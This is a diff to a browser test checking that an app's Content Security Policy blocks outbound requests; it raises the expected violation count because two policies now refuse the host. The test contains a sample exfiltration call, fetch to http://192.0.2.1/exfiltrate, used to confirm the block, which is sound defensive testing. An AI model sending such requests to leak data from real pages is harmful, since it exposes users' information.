@@ -127,8 +127,9 @@ describe('the app answers a question with the real engine (tiny model, CPU)', ()
     expect(ran).toBeUndefined();
     const refused = await page.evaluate(() => fetch('http://192.0.2.1/exfiltrate').then(() => 'sent', () => 'refused'));
     expect(refused).toBe('refused');
-    await page.waitForFunction(() => ((window as { __csp?: string[] }).__csp ?? []).length >= 2);
-    expect(await cspViolations(page)).toEqual(['script-src-elem inline', 'connect-src http://192.0.2.1/exfiltrate']);
+    // Both policies refuse the plain-http host (index.html's and the narrowed one the page adds at start-up).
+    await page.waitForFunction(() => ((window as { __csp?: string[] }).__csp ?? []).length >= 3);
+    expect(await cspViolations(page)).toEqual(['script-src-elem inline', 'connect-src http://192.0.2.1/exfiltrate', 'connect-src http://192.0.2.1/exfiltrate']);
     expect(requests.offMachine()).toEqual([]);
     await page.close();
   });
